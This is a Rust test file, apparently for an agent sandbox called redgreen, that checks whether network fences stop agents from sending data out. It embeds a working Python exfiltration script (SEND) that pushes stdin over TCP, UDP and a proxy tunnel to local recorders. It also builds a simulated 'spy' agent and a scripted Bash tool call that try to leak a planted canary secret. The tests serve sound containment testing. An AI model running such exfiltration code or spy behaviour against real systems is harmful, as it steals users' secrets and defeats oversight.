//! What agents send: an external agent sends everything that it finds, to its model and in every
//! other direction, and servers record every byte. The commands of the built-in agent try the same.

use std::fs;
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use serde_json::json;

use super::planted::{CANARY, PYTHON, plant, probe};
use super::{FENCES, behind, clean, is_open_to, run};
use crate::server::{SeenRequest, Server, Turn, Wire};
use crate::skip::skipped;
use crate::story::{Story, adder, role, served};

/// Sends its input to a server over TCP and UDP, directly and through the proxy, if there is one.
const SEND: &str = r#"
import os, socket, sys, urllib.parse
found = sys.stdin.buffer.read() or b"nothing"
def tried(act):
    try:
        act()
    except OSError:
        pass
def directly(port):
    with socket.create_connection(("127.0.0.1", port), 5) as s:
        s.sendall(found)
def through_the_proxy(port):
    proxy = urllib.parse.urlsplit(os.environ["http_proxy"])
    with socket.create_connection((proxy.hostname, proxy.port), 5) as s:
        s.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % port)
        s.recv(99)
        s.sendall(found)
for port in map(int, sys.argv[2:]):
    tried(lambda: directly(port))
    if "http_proxy" in os.environ:
        tried(lambda: through_the_proxy(port))
tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(found, ("127.0.0.1", int(sys.argv[1]))))
print("tried")
"#;

/// A server that records every byte, until the tests end.
struct Recorder {
    port: u16,
    heard: Arc<Mutex<Vec<u8>>>,
}

impl Recorder {
    fn tcp() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::<Mutex<Vec<u8>>>::default();
        let own = Arc::clone(&heard);
        thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let mut bytes = Vec::new();
                client.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
                // What arrived before a connection breaks counts as well.
                client.take(1 << 20).read_to_end(&mut bytes).ok();
                own.lock().unwrap().extend(bytes);
            }
        });
        Self { port, heard }
    }

    fn udp() -> Self {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        let port = socket.local_addr().unwrap().port();
        let heard = Arc::<Mutex<Vec<u8>>>::default();
        let own = Arc::clone(&heard);
        thread::spawn(move || {
            let mut bytes = vec![0; 1 << 16];
            while let Ok(count) = socket.recv(&mut bytes) {
                own.lock().unwrap().extend(&bytes[..count]);
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> Vec<u8> {
        // The last bytes may be on their way.
        thread::sleep(Duration::from_millis(200));
        self.heard.lock().unwrap().clone()
    }
}

fn has_python() -> bool {
    Path::new(PYTHON).exists() || {
        skipped("no /usr/bin/python3");
        false
    }
}

/// The script works, so that no server stays silent because of a mistake in it.
#[test]
fn without_a_fence_everything_that_is_sent_arrives() {
    if !has_python() {
        return;
    }
    let (tcp, udp) = (Recorder::tcp(), Recorder::udp());
    let story = Story::new();
    story.script("send.py", SEND);
    let send = story.place("send.py").display().to_string();
    let line = format!("echo {CANARY} | {PYTHON} '{send}' {} {}", udp.port, tcp.port);
    assert!(story.command("sh").args(["-c", &line]).status().unwrap().success());
    for recorder in [tcp, udp] {
        assert_eq!(String::from_utf8(recorder.heard()).unwrap(), format!("{CANARY}\n"));
    }
}

/// An agent that looks for everything, and sends what it found to its model and to somebody else.
#[test]
fn an_external_agent_sends_no_secret_to_its_model_and_nothing_to_others_behind_any_fence() {
    if !has_python() {
        return;
    }
    for means in FENCES {
        let Some(before) = behind(means) else { continue };
        let what = format!("external behind {}", means.as_str());
        let (model, other, udp) = (Recorder::tcp(), Recorder::tcp(), Recorder::udp());
        let story = plant().env("SPY_BASE_URL", &format!("http://127.0.0.1:{}", model.port));
        let send = story.script("send.py", SEND).place("send.py");
        let script = format!(
            "cat > /dev/null\nfound=$({})\necho \"$found\" | {PYTHON} '{}' {} {} {}\n",
            probe(&story),
            send.display(),
            udp.port,
            model.port,
            other.port
        );
        story.script("spy.sh", &script);
        let settings = format!(
            "backoff = 0.0\nmax-retries = 0\n[agent]\nname = \"spy\"\n[agent.custom.spy]\ncommand = [\"sh\", {:?}, {:?}]\n\
             env = [\"SPY_*\"]\n",
            story.place("spy.sh"),
            send
        );
        story.file("redgreen.toml", &settings);
        story.commit("an agent");
        let said = run(&story, &before, &["run", "an adder"]);
        let heard = model.heard();
        let text = String::from_utf8_lossy(&heard).into_owned();
        assert!(text.contains(CANARY), "{what}: it sent nothing: {text}\n{said:?}");
        clean(&what, &heard, &is_open_to(means));
        for recorder in [other, udp] {
            assert_eq!(String::from_utf8_lossy(&recorder.heard()), "", "{what}");
        }
    }
}

/// With a network for the model alone, commands have none: redgreen talks to the model itself.
#[test]
fn commands_of_the_built_in_agent_send_nothing_where_the_network_is_for_the_model_alone() {
    if !has_python() {
        return;
    }
    for means in FENCES {
        let Some(before) = behind(means) else { continue };
        let (tcp, udp) = (Recorder::tcp(), Recorder::udp());
        let command = format!("echo x | {PYTHON} -c '{SEND}' {} {}", udp.port, tcp.port);
        let server =
            Server::answering(move |seen: &SeenRequest| match (role(seen), seen.answers()) {
                ("green", 0) => Turn::call("Bash", json!({ "command": command })),
                ("green", 1) => {
                    let code = "def add(a, b):\n    return a + b\n";
                    Turn::call("Write", json!({ "file_path": "calc.py", "content": code }))
                }
                ("green", _) => Turn::call(
                    "Complete",
                    json!({ "implementation_files": ["calc.py"], "summary": "it adds" }),
                ),
                _ => adder(seen),
            });
        let story = served(Story::pytest(), &server, Wire::Anthropic);
        let settings = fs::read_to_string(story.root.join("redgreen.toml")).unwrap_or_default();
        story.file("redgreen.toml", &format!("{settings}\n[agent]\nnetwork = \"model\"\n"));
        story.commit("no network for commands");
        run(&story, &before, &["run", "an adder"]).exits(3);
        let said: String =
            server.requests().iter().map(|request| request.body.to_string()).collect();
        assert!(said.contains("tried"), "{}: {said}", means.as_str());
        for recorder in [tcp, udp] {
            assert_eq!(String::from_utf8_lossy(&recorder.heard()), "", "{}", means.as_str());
        }
    }
}
